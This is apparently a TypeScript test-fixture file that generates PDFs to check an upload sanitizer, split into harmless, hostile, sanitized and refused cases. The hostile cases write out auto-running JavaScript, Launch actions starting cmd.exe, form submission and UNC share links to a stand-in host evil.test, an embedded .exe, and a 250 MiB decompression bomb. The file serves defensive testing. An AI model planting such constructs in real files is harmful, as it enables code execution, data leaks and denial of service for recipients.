import { deflateSync } from "node:zlib";

/** Small, deterministic PDFs of visitors and attackers. */

const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>";

function stream(content: Buffer | string, dictionary = ""): Buffer {
  const packed = deflateSync(content);
  return Buffer.concat([
    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode ${dictionary} >>\nstream\n`),
    packed,
    Buffer.from("\nendstream"),
  ]);
}

interface PdfParts {
  /** Further entries. */
  catalog?: string;
  /** Further entries. */
  page?: string;
  /** Objects from number 5 on. */
  objects?: (Buffer | string)[];
  /** Further entries. */
  trailer?: string;
}

/** PDF of one page with a cross-reference table (ISO 32000-2, 7.5). */
function createPdf({ catalog = "", page: more = "", objects = [], trailer = "" }: PdfParts) {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    pages,
    page.replace(" >>", ` ${more} >>`),
    stream("BT ET"),
    ...objects,
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const places: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [index, object] of all.entries()) {
    places.push(length());
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n"));
  }
  const start = length();
  const rows = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(
    Buffer.from(
      `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** Harmless PDF. The text, its title, makes it unique. */
export const pdf = (text = "resume"): Buffer =>
  createPdf({ trailer: "/Info 5 0 R", objects: [`<< /Title (${text}) >>`] });

/** Returns the text of `pdf`. A stored file is rewritten. */
export const getPdfText = (file: Uint8Array): string | undefined =>
  /\/Title \(([^)]*)\)/.exec(Buffer.from(file).toString("latin1"))?.[1];

/** PDF with objects in an object stream (ISO 32000-2, 7.5.7). */
function pdfWithPacked(catalog: string, objects: string[], padding = 0): Buffer {
  const starts = objects.map((_, at) => objects.slice(0, at).join(" ").length + (at ? 1 : 0));
  const index = `${starts.map((start, at) => `${at + 5} ${start}`).join(" ")} `;
  const content = `${index}${objects.join(" ")}${" ".repeat(padding)}`;
  const plain = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    pages,
    page.replace("/Contents 4 0 R", ""),
    stream(content, `/Type /ObjStm /N ${objects.length} /First ${index.length}`),
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const rows: Buffer[] = [row(0, 0, 255)];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [at, object] of plain.entries()) {
    rows.push(row(1, length(), 0));
    parts.push(Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n"));
  }
  for (const at of objects.keys()) rows.push(row(2, 4, at));
  const start = length();
  const number = plain.length + objects.length + 1;
  rows.push(row(1, start, 0));
  const table = stream(
    Buffer.concat(rows),
    `/Type /XRef /Size ${number + 1} /W [1 4 1] /Root 1 0 R`,
  );
  parts.push(
    Buffer.from(`${number} 0 obj\n`),
    table,
    Buffer.from(`\nendobj\nstartxref\n${start}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

function row(kind: number, where: number, which: number): Buffer {
  const bytes = Buffer.alloc(6);
  bytes[0] = kind;
  bytes.writeUInt32BE(where, 1);
  bytes[5] = which;
  return bytes;
}

const structure =
  "<< /Type /StructElem /S /TD /Pg 3 0 R /A [<< /O /Layout /BBox [0 0 9 9] /Placement /Block >> << /O /Table /Headers [(a) (b)] /ColSpan 1 >>] /K 0 >>";
const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`;

const protectedPdf = () =>
  createPdf({
    trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"12".repeat(32)}> /U <${"34".repeat(32)}> >>`,
  });

export const harmlessPdfs: Record<string, () => Buffer> = {
  "a link": () => createPdf({ page: link("<< /S /URI /URI (https://example.com/) >>") }),
  "a place to open at": () => createPdf({ catalog: "/OpenAction [3 0 R /XYZ null null 0]" }),
  "a place to open at, as an action": () =>
    createPdf({ catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>" }),
  "a field to fill in": () =>
    createPdf({
      catalog: "/AcroForm << /Fields [5 0 R] >>",
      objects: ["<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>"],
    }),
  "objects that are packed": () => pdfWithPacked("/Names 5 0 R", ["<< /Dests 6 0 R >>", "<< >>"]),
  "a table of references that is wrong": () =>
    Buffer.from(
      pdf()
        .toString("latin1")
        .replace(/startxref\n\d+/, "startxref\n7"),
      "latin1",
    ),
  "no table of references": () =>
    Buffer.from(
      pdf()
        .toString("latin1")
        .replace(/xref[\s\S]*trailer/, "trailer"),
      "latin1",
    ),
  "no end": () => pdf().subarray(0, -12),
  "a place named like a script": () =>
    createPdf({
      catalog: "/Dests << /JavaScript [3 0 R /Fit] /JS [3 0 R /Fit] /EF [3 0 R /Fit] >>",
    }),
  "a structure named like a film": () =>
    createPdf({
      catalog: "/StructTreeRoot << /Type /StructTreeRoot /RoleMap << /Movie /P /Sound /P >> >>",
      objects: ["<< /Type /StructElem /S /Movie /P 6 0 R /A << /O /Layout /EF 1 >> >>", "<< >>"],
    }),
  "an empty tree of scripts": () =>
    createPdf({ catalog: "/Names << /JavaScript << /Names [] >> >>" }),
  "markup in its title": () => pdf("<html><script>alert</script>"),
  "markup in its text": () =>
    createPdf({ objects: ["<< /Length 25 >>\nstream\n<SCRIPT>alert(1)</SCRIPT>\nendstream"] }),
  "a button that shows a layer": () => createPdf({ page: link("<< /S /SetOCGState /State [] >>") }),
  "twenty thousand tagged objects": () =>
    createPdf({
      catalog: `/StructTreeRoot << /Type /StructTreeRoot /K [${Array.from({ length: 20_000 }, (_, at) => `${at + 5} 0 R`).join(" ")}] >>`,
      objects: Array.from({ length: 20_000 }, () => structure),
    }),
  "words that sound like a script": () => pdf("The JavaScript developer /JS of the year"),
};

export const hostilePdfs: Record<string, () => Buffer> = {
  "a PDF in name only": () => Buffer.from("%PDF-1.4 hello startxref 1 %%EOF"),
  "a PDF without a page": () =>
    Buffer.from(pdf().toString("latin1").replace("[3 0 R] /Count 1", "[     ] /Count 0"), "latin1"),
  "a PDF with a script when it opens": () => createPdf({ catalog: `/OpenAction ${script}` }),
  "a PDF with a script whose name is disguised": () =>
    createPdf({ catalog: `/OpenAction ${script.replaceAll("J", "#4a")}` }),
  "a PDF with a script in a packed object": () => pdfWithPacked("/OpenAction 5 0 R", [script]),
  "a PDF with a script when a page shows": () => createPdf({ page: `/AA << /O ${script} >>` }),
  "a PDF with a script behind a click": () => createPdf({ page: link(script) }),
  "a PDF with a script behind a place": () =>
    createPdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
  "a PDF with a script by its name": () =>
    createPdf({ catalog: "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", objects: [script] }),
  "a PDF with a script that nothing refers to": () => createPdf({ objects: [script] }),
  "a PDF that starts a program": () =>
    createPdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
  "a PDF that starts a program after a click": () =>
    createPdf({ page: link("<< /S /Launch /Win << /F (cmd.exe) >> >>") }),
  "a PDF that opens an address by itself": () =>
    createPdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.test/) >>" }),
  "a PDF that opens an address with its page": () =>
    createPdf({ page: "/AA << /O << /S /URI /URI (https://evil.test/) >> >>" }),
  "a PDF that opens a file on a share": () =>
    createPdf({ page: "/AA << /O << /S /GoToR /F (\\\\\\\\evil.test\\\\a) /D [0 /Fit] >> >>" }),
  "a PDF that sends a form": () =>
    createPdf({ page: link("<< /S /SubmitForm /F (https://evil.test/) >>") }),
  "a PDF with a file in it": () =>
    createPdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
      objects: [
        "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        stream("MZ", "/Type /EmbeddedFile"),
      ],
    }),
  "a PDF with a form of XML": () => createPdf({ catalog: "/AcroForm << /Fields [] /XFA (x) >>" }),
  "a PDF with a film": () =>
    createPdf({ page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]" }),
  "a PDF with a part from elsewhere": () =>
    createPdf({ objects: [stream("", "/F << /FS /URL /F (https://evil.test/) >>")] }),
  "a PDF of a million objects": () =>
    pdfWithPacked("/Names 5 0 R", [`[${"<< /A /B >> ".repeat(2_000_000)}]`]),
  "a PDF nested without an end": () => createPdf({ catalog: `/X ${"[".repeat(1_000_000)}` }),
  "a PDF whose pages run in a circle": () =>
    Buffer.from(pdf().toString("latin1").replace("/Kids [3 0 R]", "/Kids [2 0 R]"), "latin1"),
};

const attachment = (name: string) => ({
  catalog: `/Names << /EmbeddedFiles << /Names [(${name}) 5 0 R] >> >> /AF [5 0 R]`,
  objects: [
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >>`,
    stream("data", "/Type /EmbeddedFile"),
  ],
});

/** Small file whose object stream unpacks to 250 MiB of spaces. */
export const pdfBomb = (): Buffer => pdfWithPacked("/Names 5 0 R", ["<< >>"], 250 * 1024 * 1024);

/** PDFs with a harmless part that is not stored. */
export const sanitizedPdfs: Record<string, { file: () => Buffer; without: RegExp }> = {
  "bytes before its header": {
    file: () => Buffer.concat([Buffer.from("\ufeff\r\nServer: x\r\n"), pdf()]),
    without: /Server/,
  },
  "bytes after its end": {
    file: () => Buffer.concat([pdf(), Buffer.from("\n<!-- served in 3 ms -->\n")]),
    without: /served/,
  },
  "an attachment": {
    file: () => createPdf(attachment("europass.xml")),
    without: /EmbeddedFile|\/EF|\/AF/,
  },
  "an attachment pinned to its page": {
    file: () =>
      createPdf({
        page: "/Annots [5 0 R << /Subtype /FileAttachment /Rect [0 0 9 9] >>]",
        objects: [
          "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.odt) /EF << /F 6 0 R >> >> >>",
          stream("data", "/Type /EmbeddedFile"),
        ],
      }),
    without: /FileAttachment|EmbeddedFile/,
  },
  "a link to a file of its author": {
    file: () => createPdf({ page: link("<< /S /Launch /F (/C/Users/M/letter.docx) >>") }),
    without: /Launch/,
  },
  "a link to a second PDF": {
    file: () => createPdf({ page: link("<< /S /GoToR /F (portfolio.pdf) /D [0 /Fit] >>") }),
    without: /GoToR/,
  },
  "a link to an address of a file": {
    file: () => createPdf({ page: link("<< /S /URI /URI (file:///C:/Users/M/letter.docx) >>") }),
    without: /letter/,
  },
  "an object that nothing refers to": {
    file: () => createPdf({ objects: ["<< /Forgotten true >>"] }),
    without: /Forgotten/,
  },
};

const packed = (catalog: string) => () => createPdf({ catalog });
const linked = (action: string) => () => createPdf({ page: link(action) });

/** PDFs by the reason of their refusal. */
export const refusedPdfs: Record<string, { file: () => Buffer; code: string }> = {
  "a PDF with an attached program": {
    file: () => createPdf(attachment("cv.pdf.exe")),
    code: "file-embedded",
  },
  "a PDF with an attached program, written in place": {
    file: () =>
      createPdf({
        catalog:
          "/Names << /EmbeddedFiles << /Names [(a) << /F (a.js) /EF << /F 5 0 R >> >>] >> >>",
        objects: [stream("x", "/Type /EmbeddedFile")],
      }),
    code: "file-embedded",
  },
  "a PDF with an attached program of a trailing dot": {
    file: () => createPdf(attachment("cv.exe. ")),
    code: "file-embedded",
  },
  "a portfolio": { file: packed("/Collection << /View /D >>"), code: "file-embedded" },
  "a link into an attachment": {
    file: linked("<< /S /GoToE /D [0 /Fit] >>"),
    code: "file-embedded",
  },
  "a form of XFA": { file: packed("/AcroForm << /Fields [] /XFA (x) >>"), code: "file-program" },
  "a script on each key": {
    file: () =>
      createPdf({
        catalog: "/AcroForm << /Fields [5 0 R] >>",
        objects: [`<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /K ${script} >> >>`],
      }),
    code: "file-program",
  },
  "a script behind an outline": {
    file: () =>
      createPdf({
        catalog: "/Outlines << /First 5 0 R /Last 5 0 R /Count 1 >>",
        objects: [`<< /Title (a) /A 6 0 R >>`, script],
      }),
    code: "file-program",
  },
  "a script in a slide show": {
    file: () => createPdf({ page: `/PresSteps << /Type /NavNode /NA ${script} >>` }),
    code: "file-program",
  },
  "a script in a link's address": {
    file: linked("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"),
    code: "file-program",
  },
  "a link with parameters of a program": {
    file: linked("<< /S /Launch /Win << /F (letter.docx) /P (/x) >> >>"),
    code: "file-program",
  },
  "a document that opens by itself": {
    file: packed("/OpenAction << /S /Launch /F (letter.docx) >>"),
    code: "file-program",
  },
  "a PDF within a program": {
    file: () => Buffer.concat([Buffer.from("MZ\n"), pdf()]),
    code: "file-program",
  },
  "a link to a share": {
    file: linked("<< /S /GoToR /F (\\\\\\\\evil.test\\\\a.pdf) /D [0 /Fit] >>"),
    code: "file-remote",
  },
  "a link to a share by slashes": {
    file: linked("<< /S /Launch /F (//evil.test/a.docx) >>"),
    code: "file-remote",
  },
  "a link to a document on the web": {
    file: linked("<< /S /GoToR /F << /FS /URL /F (https://evil.test/a.pdf) >> /D [0 /Fit] >>"),
    code: "file-remote",
  },
  "a page of another document": {
    file: () => createPdf({ objects: [stream("", "/Subtype /Form /Ref << /F (a.pdf) >>")] }),
    code: "file-remote",
  },
  "an address that opens with the page": {
    file: () => createPdf({ page: "/AA << /O << /S /URI /URI (https://evil.test/) >> >>" }),
    code: "file-remote",
  },
  "a PDF with a password": { file: () => protectedPdf(), code: "file-password" },
  "a PDF of noise": { file: () => Buffer.from("%PDF-1.4 noise"), code: "file-damaged" },
};
